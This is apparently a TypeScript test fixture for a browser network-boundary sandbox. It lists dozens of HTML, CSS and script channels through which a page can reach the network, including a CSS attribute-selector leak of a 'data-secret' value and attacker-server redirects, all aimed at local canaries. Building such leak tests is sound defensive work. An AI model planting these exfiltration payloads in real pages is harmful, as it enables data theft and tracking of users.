import { CHANNELS, type ProbeTargets, probeScript } from '../../src/boundary/boundary-probes.ts'

/** How long the scripted channels may take before the page goes on without them, in milliseconds. */
const TIMEOUT_MS = 1000

/**
 * Every way in which markup alone loads something: the channel, and the markup. `URL` becomes the canary's address
 * with the channel as its path, `HOST` its host and port.
 */
const MARKUP: Readonly<Record<string, string>> = {
  'm-img': '<img src="URL">',
  'm-img-srcset': '<img srcset="URL 1x">',
  'm-picture': '<picture><source srcset="URL"><img></picture>',
  'm-input': '<input type="image" src="URL">',
  'm-background': '<table background="URL"><tr><td>x</table>',
  'm-video': '<video src="URL" preload="auto"></video>',
  'm-video-source': '<video preload="auto"><source src="URL"></video>',
  'm-poster': '<video poster="URL"></video>',
  'm-track': '<video controls crossorigin><track default kind="captions" src="URL"></video>',
  'm-audio': '<audio src="URL" preload="auto"></audio>',
  'm-iframe': '<iframe src="URL"></iframe>',
  'm-iframe-srcdoc': '<iframe srcdoc="<img src=URL>"></iframe>',
  'm-iframe-data': '<iframe src="data:text/html,<img src=URL>"></iframe>',
  'm-iframe-refresh': `<iframe srcdoc="<meta http-equiv=refresh content='0;url=URL'>"></iframe>`,
  'm-iframe-base': '<iframe srcdoc="<base href=http://HOST><img src=m-iframe-base>"></iframe>',
  'm-iframe-sandbox': '<iframe sandbox="allow-scripts" srcdoc="<img src=URL>"></iframe>',
  'm-object': '<object data="URL"></object>',
  'm-object-nested': '<object data="x:"><img src="URL"></object>',
  'm-embed': '<embed src="URL">',
  'm-svg-image': '<svg><image href="URL" width="9" height="9"/></svg>',
  'm-svg-xlink': '<svg><image xlink:href="URL" width="9" height="9"/></svg>',
  'm-svg-use': '<svg><use href="URL#a"/></svg>',
  'm-svg-fe-image':
    '<svg><filter id="f"><feImage href="URL"/></filter><rect width="9" height="9" filter="url(#f)"/></svg>',
  'm-svg-fill': '<svg><rect width="9" height="9" fill="url(URL#p)"/></svg>',
  'm-svg-filter': '<svg><rect width="9" height="9" filter="url(URL#f)"/></svg>',
  'm-stylesheet': '<link rel="stylesheet" href="URL">',
  'm-stylesheet-alternate': '<link rel="alternate stylesheet" title="a" href="URL">',
  'm-preload': '<link rel="preload" as="image" href="URL">',
  'm-modulepreload': '<link rel="modulepreload" href="URL">',
  'm-prefetch': '<link rel="prefetch" href="URL">',
  'm-icon': '<link rel="icon" href="URL">',
  'm-manifest': '<link rel="manifest" href="URL">',
  'm-connect': '<link rel="preconnect" href="http://HOST"><link rel="dns-prefetch" href="//HOST">',
  'm-style-attribute': '<p style="background:url(URL)">x</p>',
  'm-style-element': '<style>@import "URL";</style>',
  'm-script': '<script src="URL"></script>',
  'm-module': '<script type="module" src="URL"></script>',
  'm-import': '<script type="module">import("URL").catch(() => {})</script>',
  'm-on-error': `<img src="data:,x" onerror="new Image().src='URL'">`,
  'm-on-load': `<svg onload="new Image().src='URL'"></svg>`,
  'm-speculation':
    '<script type="speculationrules">{"prefetch":[{"urls":["URL"],"eagerness":"immediate"}]}</script>',
}

/** Every way in which a stylesheet loads something, less its imports, which only may come first. */
const STYLES: Readonly<Record<string, string>> = {
  's-background': 'html { background: url(URL) }',
  's-image-set': 'html::before { content: image-set("URL" 1x) }',
  's-variable': 'html { --v: url(URL) } body::before { content: ""; background: var(--v) }',
  's-list': 'li, p { display: list-item; list-style-image: url(URL) }',
  's-content': 'body::after { content: url(URL) }',
  's-border': 'body { border: 1px solid; border-image: url(URL) 1 }',
  's-mask': 'html { mask-image: url(URL) }',
  's-shape': 'p { float: left; shape-outside: url(URL) }',
  's-cross-fade': 'div, p { background: -webkit-cross-fade(url(URL), url(URL), 50%) }',
  's-font': '@font-face { font-family: leak; src: url(URL) } html, * { font-family: leak }',
  's-page': '@page { @top-left { content: url(URL) } }',
  's-media': '@media all { body { background-image: url(URL) } }',
  's-layer': '@layer a { html::after { content: ""; background: url(URL) } }',
  's-attribute': '[data-secret^="s3cr"] { background: url(URL) }',
}

/**
 * Channels that need the attacker's own server, which the policy allows: `PAGE` is its origin. A redirect there leads to the
 * canary, `to/STATUS/CHANNEL`.
 */
const SERVED: Readonly<Record<string, string>> = {
  'r-image': '<img src="PAGE/to/302/r-image">',
  'r-stylesheet': '<link rel="stylesheet" href="PAGE/to/301/r-stylesheet">',
  'r-import': '<style>@import "PAGE/to/303/r-import";</style>',
  'r-script': '<script src="PAGE/to/307/r-script"></script>',
  'r-iframe': '<iframe src="PAGE/to/308/r-iframe"></iframe>',
  'r-chain': '<img src="PAGE/chain/5/r-chain">',
  'r-fetch':
    '<script>fetch("PAGE/to/307/r-fetch", { method: "POST", mode: "no-cors" }).catch(() => {})</script>',
  'r-events': '<script>new EventSource("PAGE/to/302/r-events")</script>',
  'h-refresh': '<iframe src="PAGE/refresh/h-refresh"></iframe>',
  'h-link': '<iframe src="PAGE/link/h-link"></iframe>',
  'h-report': '<iframe src="PAGE/report/h-report"></iframe>',
  'h-speculation': '<iframe src="PAGE/speculation/h-speculation"></iframe>',
  'h-alt-svc': '<img src="PAGE/alt-svc/h-alt-svc">',
  'd-svg': '<object data="PAGE/svg/d-svg"></object>',
  'd-xml-stylesheet': '<iframe src="PAGE/xml/d-xml-stylesheet"></iframe>',
  'd-css': '<link rel="stylesheet" href="PAGE/css/d-css">',
}

/** Channels that stay silent without a boundary too: they are tried in case a later browser uses them. */
export const INERT: ReadonlySet<string> = new Set([
  // No user agent interface asks for them.
  'icon',
  'm-icon',
  'm-manifest',
  // Told apart from a plain connection in full Chromium alone.
  'preconnect',
  'm-connect',
  // Loaded from the document's own origin alone.
  'm-svg-use',
  'm-svg-filter',
  // Not while a page is driven from outside.
  'speculative-prefetch',
  'speculative-prerender',
  'm-speculation',
  'h-speculation',
  // For secure origins alone.
  'h-alt-svc',
])

/** Channels that are asked for while printing, after everything else, and by printing alone. */
export const PRINTED: ReadonlySet<string> = new Set(['s-page'])

/** Channels that the pool may close before they ask for anything. */
export const CLOSED: ReadonlySet<string> = new Set(['popup'])

/** Channels that no proxy carries: an open policy does not open them, and nothing must. */
export const NEVER_CARRIED: ReadonlySet<string> = new Set(['stun', 'turn-udp', 'web-transport'])

/** A leak page's parts, all aimed at the same canaries. */
export interface Leaks {
  /** Static markup, and what the attacker's own server adds to it. */
  readonly markup: string
  /** A stylesheet. */
  readonly css: string
  /** A script; sets `released` once every attempt was made and the attacker's server lets it go. */
  readonly script: string
  /** A script that attempts nothing, and sets `released` in the same way: for attacks by other parts. */
  readonly waiting: string
  /** A whole document of markup, stylesheet and script. */
  readonly html: string
  /** The same without attempts of scripts. */
  readonly still: string
}

/** Everything a document can try to reach the network with, aimed at canaries. */
export function leaks(targets: ProbeTargets, page: string): Leaks {
  const { host, httpPort } = targets
  const aim = (text: string, channel: string) =>
    text
      .replaceAll('URL', `http://${host}:${httpPort}/${channel}`)
      .replaceAll('HOST', `${host}:${httpPort}`)
      .replaceAll('PAGE', page)
  const aimed = (table: Readonly<Record<string, string>>) =>
    Object.entries(table).map(([channel, text]) => aim(text, channel))
  const markup = [...aimed(MARKUP), ...aimed(SERVED)].join('\n')
  const css = [aim('@import url(URL);', 's-import'), ...aimed(STYLES)].join('\n')
  // A string of the probes holds an end tag.
  const probes = probeScript(targets, TIMEOUT_MS).replaceAll('</', '<\\/')
  // After the frames of the markup: a popup that opens while they arrive can hold them up for good.
  const releasedAfter = (attempts: string) => `new Promise((done) => {
    if (document.readyState === 'complete') done()
    else addEventListener('load', done)
  }).then(() => ${attempts}).finally(async () => {
    await fetch('${page}/release', { mode: 'no-cors' })
    globalThis.released = true
  })`
  const [script, waiting] = [releasedAfter(probes), releasedAfter('0')]
  const documentWith = (text: string) =>
    `<!doctype html><title>leaks</title><style>${css}</style>${SECRET_FIELD}${markup}<script>${text}</script>`
  return { markup, css, script, waiting, html: documentWith(script), still: documentWith(waiting) }
}

/** Elements that a stylesheet paints; it reads an attribute of the first. */
export const SECRET_FIELD = '<p data-secret="s3cr3t">text</p><div></div>'

/** Channels of static markup, of stylesheets, of scripts, and of an attacker's own server. */
export const LEAK_CHANNELS = {
  markup: Object.keys(MARKUP),
  styles: ['s-import', ...Object.keys(STYLES)],
  scripts: CHANNELS,
  served: Object.keys(SERVED),
} as const
